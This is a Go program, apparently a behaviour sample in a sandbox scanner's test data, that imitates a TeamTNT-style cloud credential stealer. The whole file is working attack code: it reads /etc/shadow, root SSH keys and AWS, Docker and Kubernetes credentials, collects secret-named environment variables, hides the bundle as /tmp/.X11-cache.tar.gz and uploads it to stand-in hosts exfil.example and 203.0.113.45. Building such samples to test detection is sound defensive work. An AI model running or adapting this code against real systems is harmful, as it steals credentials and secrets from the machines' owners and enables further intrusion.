// Command credtheft imitates a credential stealer (TeamTNT-style cloud
// credential harvesting): it collects password hashes, SSH keys, cloud and
// registry credentials and secret-looking environment variables, packs
// them into a hidden tar.gz under /tmp and uploads it over HTTP.
package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/sandscan/sandscan/testdata/behaviours/internal/guard"
)

var targets = []string{
	"/etc/shadow",
	"/root/.ssh/id_rsa",
	"/root/.aws/credentials",
	"/root/.docker/config.json",
	"/root/.kube/config",
}

var uploads = []string{"http://exfil.example/upload", "http://203.0.113.45/upload"}

const archive = "/tmp/.X11-cache.tar.gz"

func main() {
	guard.Require("credtheft")
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	add := func(name string, data []byte) {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(data)), Typeflag: tar.TypeReg})
		tw.Write(data)
	}
	for _, p := range targets {
		data, err := os.ReadFile(p)
		if err != nil {
			fmt.Println("credtheft: skip", p, err)
			continue
		}
		fmt.Printf("credtheft: took %s (%d bytes)\n", p, len(data))
		add(strings.TrimPrefix(p, "/"), data)
	}
	var env strings.Builder
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		if strings.Contains(k, "SECRET") || strings.Contains(k, "TOKEN") || strings.Contains(k, "PASSWORD") || strings.HasSuffix(k, "_KEY_ID") {
			env.WriteString(kv + "\n")
		}
	}
	fmt.Printf("credtheft: took %d secret variables\n", strings.Count(env.String(), "\n"))
	add("env.txt", []byte(env.String()))
	tw.Close()
	gz.Close()
	if err := os.WriteFile(archive, buf.Bytes(), 0o600); err != nil {
		fmt.Println("credtheft:", err)
	}

	client := &http.Client{Timeout: 3 * time.Second}
	for _, u := range uploads {
		resp, err := client.Post(u, "application/gzip", bytes.NewReader(buf.Bytes()))
		if err != nil {
			fmt.Println("credtheft: upload failed:", err)
			continue
		}
		resp.Body.Close()
		fmt.Println("credtheft: uploaded to", u, resp.Status)
		break
	}
}
